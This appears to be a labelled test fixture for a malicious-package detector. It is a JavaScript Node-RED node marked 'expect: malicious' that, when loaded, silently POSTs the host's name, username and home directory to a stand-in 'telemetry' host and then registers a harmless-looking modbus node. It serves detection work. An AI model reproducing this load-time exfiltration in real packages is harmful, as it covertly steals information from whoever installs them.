// expect: malicious
// source: malicious Node-RED and n8n community nodes (Socket/ReversingLabs reports, 2024-2026): the runtime requires a
// node file named in the manifest's `node-red.nodes` when it starts; this one reports who and where it runs on load
const os = require('os');
const https = require('https');
const req = https.request({ host: 'telemetry.modbus-lite.example', path: '/i', method: 'POST' });
req.on('error', () => {});
req.end(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: os.homedir() }));
module.exports = function (RED) {
  function ModbusLite(config) { RED.nodes.createNode(this, config); }
  RED.nodes.registerType('modbus-lite', ModbusLite);
};
